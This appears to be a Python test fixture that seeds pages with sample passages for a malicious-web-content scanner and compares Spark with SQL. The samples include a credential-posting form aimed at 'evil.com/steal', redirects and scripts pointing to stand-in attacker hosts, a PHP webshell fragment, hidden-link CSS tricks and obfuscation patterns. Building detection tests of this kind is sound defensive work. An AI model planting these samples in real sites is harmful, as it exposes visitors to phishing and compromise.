"""The check corpus: every page of the ``pages`` table with a passage put into its body.

The plain pages trigger hardly any rule, so each page gets one of the passages below (rule
triggers and near misses) and one keyword.  All pages are kept and scanned whole; passages
are dealt out by page_id, the same way in Spark and in the SQL used for comparison.
"""

from pyspark.sql import DataFrame, SparkSession

from pagescan.functions.text import lits
from pagescan.rules.loaders import built_in_keywords

_FILL = "plain words that only keep other passages at a distance from this place "
PASSAGES = [
    "",
    '<a href="https://evil-malware.xyz/bad.exe?redirect=1">x</a><a href="https://bit.ly/abc">y</a> '
    '<a href="http://sub.bit.ly/abc">z</a> HTTPS://UPPER.top/a https://a.pro/x;y=1 https://a.pro/x;y=1',
    '<script src="https://cdn.jsdelivr.net/npm/a.js"></script><script src="https://x.unpkg.com/a.js" '
    'integrity="sha"></script><script src="https://evil.ml/abcdefghij.js"></script><script src="/b.js"></script>',
    "see http://evil.xyz:8080/a http://bad.tk:9999/b https://u:p@host.pw:8443/c http://h.win:0/d "
    "http://q.bid:99999/e http://w.loan:abc/f http://v.gq:/g",
    '<a href="javascript:alert(1)">j</a> JavaScript:void(0) <img src="data:image/png;base64,iVBORw0KGgo="> '
    'data:text/html;base64,' + "QUJD" * 150 + " end",
    '<div onclick="javascript:go()">a</div><b onload=javascript:x>b</b> eval (1) EVAL(2) medieval(3) eval_(4) '
    "document.write('x') Document.Write (y) atob(z) String.fromCharCode(65) xatob(1)",
    '<iframe src="https://a.top/w" sandbox="allow-scripts"></iframe><iframe src="http://sub.example.com/x" '
    'width="0" height="0"></iframe><iframe src="/local" style="display:none"></iframe>'
    '<iframe style="width:10px;height:0" src="https://b.cf/"></iframe><iframe src="//c.ml/x" width="10"></iframe>',
    r'<i data-x="\\x41 \\u0041">a</i><i onx="ab\\u12af">b</i><i data-y="\x41\u0041">c</i>',
    '<div style="color:red;display:none">a</div><span class="q" style="visibility: hidden">b</span>'
    '<p style="opacity:0.5">c</p><article style="Display : None">d</article><b style="display:none">e</b>',
    "<!-- the Secret door --><!-- some HEX code --><!-- plain <!--[if IE]> x ]> --><!-- nothing -->"
    '<!-- <a href="https://c.example.com/x">l</a> <a href=\'http://d.ga/y\'>m</a> --><!--\nSecret\nlines\n-->',
    '<meta http-equiv="refresh" content="0;url=https://evil.com/p"><meta http-equiv=redirect '
    'content=1;url=/local/x><meta content="0;url=y" http-equiv="refresh"><META HTTP-EQUIV="Refresh" '
    'CONTENT="5; URL=http://z.tk/q" id="r">',
    '<script>eval("a");document.write("b")</script><script>String.fromCharCode(1)</script>'
    "<script>var ok=1</script><script>x = evaluate(1)</script>",
    '<a href="https://evil.com/1" style="display:none">h</a><a href="https://evil.com/2" style="opacity: 0.4">h</a>'
    '<a href="https://evil.com/3" style="font-size:0">h</a><a href="https://evil.com/4" '
    'style="position:absolute;left:-9999px">h</a><a href="https://evil.com/5" aria-hidden="true">h</a>'
    '<a href="https://evil.com/6" style="left:-99px">v</a><a href="https://cdn.bootcdn.net/7" '
    'style="display:none">cdn</a><a href="/8" style="display:none">rel</a><a href="https://evil.com/9" '
    'style="opacity:0;font-size:0;visibility:hidden" aria-hidden="true">all</a>',
    '<a href="https://bit.ly/x">login here</a><a href="https://evil.xyz/l">Verify account</a>'
    '<a href="https://test.xyz/">verify</a><a href="https://host.tk/a">plain</a><a href="https://shop.com/b">'
    'Confirm</a><a href="https://www.adf.ly/c">sub</a>',
    '<form action="https://evil.com/steal" method="post"><input type="hidden" name="auth_token" value="http://x">'
    '<input type="password" name="p"></form><form action="/x"><input type="hidden" name="plain" '
    'value="javascript:1"></form><input type="hidden" name="csrf" value="1">',
    '<form action="https://www.example.com/a"><input type="text" name="q"></form><form><input type="hidden" '
    'name="Secret_Key" value="1"><input type="password"></form><form action="http://sub.test.net/b"></form>',
    '<b style="display: none">a</b><i style="opacity: 0.3">b</i><u style="opacity:0;display:none">c</u>'
    '<em style="position:absolute;left: -9999px">d</em><em style="top:-99px">e</em><em style="TOP:-1000PX">f</em>',
    '<div hidden="">a</div><div class="visually-hidden a">b</div><em class="Hide-me">c</em><em class="had">d</em>'
    '<em class="x d-none y">e</em><em title="hidden">f</em>',
    "eval(a) Function (b) execScript(c) setTimeout(d) setInterval(e) innerHTML(f) outerHTML(g) XMLHttpRequest(h) "
    "fetch(i) WebSocket(j) unescape(k) decodeURI(l) decodeURIComponent(m) appendChild(n) insertBefore (o) "
    "replaceChild(p) Eval(q) x.innerHTML = r prefetch(s) fetch (t)",
    "var a = '" + r"\x41" * 5 + "', b = '" + r"\u0041" * 4 + "';",
    "var a = '" + r"\x41" * 4 + "', b = '" + r"\u00Af" * 10 + "';",
    "s = 'a' + 'b'; s = \"c\"+\"d\"; s = 'e' + 'f'; s = 'g' +'h'; s = 'i' + 'j';",
    "\n" + "\n".join(f"v{i} = x + ['a','b'].join('') + ['c'].join (\"-\");" for i in range(5)) + "\nlast [1] ].join(z)\n",
    "r = a.split(\").reverse().join; " * 5 + "ok = a.split('').reverse().join('');",
    "eval(a[0]+b); eval( $x + 1); eval(_y+'z'); eval(q1 +r); eval([k]+1); eval('n'+m);",
    "(function(){ run; })(); function ( ) { go }() ; (abc)() ; (function(x){})(1);",
    "if (a) { b; eval(c) } if(x){ok} try { d; eval(e) ; } catch (f) {} var g = 'eval'; h[g]; w[g](1);\n"
    "i = \"eval\" ; j = k[l]\n(m);",
    "document.cookie document.referrer navigator.userAgent Document.cookie window.cookie",
    "\n// hack this\n// all fine here\ncode(); // Inject and PHISH\n/* exploit\n backdoor */ /* seo Hidden */ /**/ /* x */"
    "\n/* " + "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0" * 2 + " */\n",
    "<style>.a{display:none;display : list-item;display:table-caption}.b{visibility:hidden;visibility:collapse}"
    ".c{opacity:0;opacity: 0.0;opacity:0.00;opacity:0.5;opacity:1}.d{clip:rect(0, 0, 0, 0);clip-path:circle(0);"
    "clip-path:polygon(0 0)}.e{z-index:-9999;z-index:-1000;z-index:-5}.f{height:0;WIDTH:0px;line-height:0%;"
    "width:10px}.g{overflow:hidden}.h{text-indent:-9999px;text-indent:-999px;text-indent:-1000px}"
    ".i{transform:translateX(-9999px);transform:TranslateY(-9999px)}</style>",
    "<style>\n.a{left:-99999px}\n#b { color:red; top: -100em }\nc{right:-99px}\n@media x {.d{bottom:-00100%}}</style>",
    '<style>[href^="javascript:"]{a:b} [x="data:y"]{c:d} [x=y]{e:f} .averyverylongclass$ {g:h} .short{i:j} '
    "#a_very_long_id_name{k:l} #short{m:n}</style>",
    "<style>a{background:url(data:x)} b{background:url( 'javascript:y')} c{background:URL(\"https://img.ga/z.png\")} "
    "p:after { content: 'data:1' } q:before{top:0;content:\"javascript:2\"} r:after{content:'x'}</style>",
    "<style>@import url(https://i.tk/a.css); @import 'https://unpkg.com/b.css'; @import \"/local.css\"; "
    "@IMPORT url( \"http://k.com/c.css\" );</style>",
    "<style>" + "".join(f"@import 'p{i}.css';" for i in range(10)) + "@Import url(https://l.com/d.css);</style>",
    "<style>" + " ".join(f".{'n' * 20}{i}{{}}" for i in range(5)) + "</style>",
    "<style>" + " ".join(f"#{'m' * 19}_{i}{{}}" for i in range(10)) + "</style>",
    "control" + "".join(map(chr, [1, 2, 3, 4, 5, 6, 7, 8, 11, 12, 14])) + "end",
    "control" + "".join(map(chr, [1, 2, 3, 4, 5, 6, 7, 8, 31, 12])) + "\t\n end",
    "zero\u200bwidth\u200c text\u200d with \u2060 and \ufeff",
    "<p>" + _FILL + " " * 10 + _FILL + "  \t\u3000\n   \u00a0 " + _FILL + " " * 9 + "x" + _FILL
    + "</p>" + " " * 12 + "<p>",
    "<p>a { color: #fff; background-color: #FFFFFF } " + _FILL * 4 + " b { background-color: black; color:#000 } "
    + _FILL * 4 + " c { color: #f00; background-color: #00f } " + _FILL * 4
    + " d { color: rgb(0,0,0); background-color: rgba(0,0,0,1) } </p>",
    "a { position: absolute; left: -9999px } b { position:absolute;\n top:1000.5em } c { position: absolute; "
    "color:red; right: -999px } d { POSITION:ABSOLUTE; bottom: 5000 } position:absolute",
    "a { font-size: 0 } b { font-size:0.9em } c { FONT-SIZE: 12px } d { text-indent: -51px } e { text-indent:-20px } "
    "f { text-indent: -999.5em } g { text-indent: -99 }",
    "a { opacity: 0 } b { opacity:0.0; } c { opacity: 0.5 } d { opacity:00 } e { Opacity : 0.000} f { opacity:0. } "
    "g { visibility : HIDDEN } h { visibility:visible } i { display:  none } j { display:block }",
    "<div><span><p>deep</p></span></div><div>\n<a name=\"x\">\n<span>e</span></a></div><article><pre>"
    "<aside>f</aside></pre></article><div>g</div>",
    "few " + "".join(f"&#{i};" for i in range(65, 75)),
    "many " + "".join(f"&#{i};" for i in range(65, 75)) + " and &#x4f; &#xAB; &#xzz; &amp;",
    "offsets \U0001f600 é\u3000中 <p style=\"display:none\">a</p>\r\n<p>next\r\nline visibility:hidden \U0001f600\r\n</p>",
    "<p>在线赌博网站 BET365 DDoS 黑帽seo 赌博赌博 传奇私服</p> webshell WEBSHELL vip赌场",
    "go http://www.evil-shop.com/x https://EVIL-abc.org eval($_POST) System ( $_GET " + "A1b2" * 60 + "== "
    "window.location = 'https://bad.com/' location.href=\"https://example.com/\" location.href='http://q.com'",
    "https://abcdefghij.com/a https://abcdefg.com/b https://abcd3fghij.com/c https://x.abcdefghijk.online/d "
    "https://example.org/?PROXY=1#f https://example.org/#?origin https://q.com/z?callback=origin "
    "//cdn.example.com/rel/path /rooted/path.php?x=1 /a /ab",
]



def seeded_pages(spark: SparkSession, sf_dir: str) -> DataFrame:
    """page_id, location, content of the check corpus."""
    words = [row[0] for row in built_in_keywords()]
    passage = f"element_at(array({lits(PASSAGES)}), CAST(page_id % {len(PASSAGES)} AS INT) + 1)"
    word = f"element_at(array({lits(words)}), CAST(page_id % {len(words)} AS INT) + 1)"
    content = f"replace(html, '<body>', concat('<body>', {passage}, ' <p>', {word}, '</p>'))"
    # One small file would be one task: deal the pages out as a table of many files is.
    pages = spark.read.parquet(f"{sf_dir}/pages.parquet").repartition(spark.sparkContext.defaultParallelism)
    return pages.selectExpr("page_id", "url AS location", f"{content} AS content")


def plain(value: str) -> str:
    """A SQL literal without backslash escapes."""
    return "'" + value.replace("'", "''") + "'"


def corpus_sql() -> str:
    """The same corpus for the comparison engine."""
    words = [row[0] for row in built_in_keywords()]
    passages, keywords = (", ".join(map(plain, values)) for values in (PASSAGES, words))
    return (f"SELECT page_id, url AS location, replace(html, '<body>', '<body>' || ([{passages}])"
            f"[CAST(page_id % {len(PASSAGES)} AS INT) + 1] || ' <p>' || ([{keywords}])"
            f"[CAST(page_id % {len(words)} AS INT) + 1] || '</p>') AS content FROM pages")
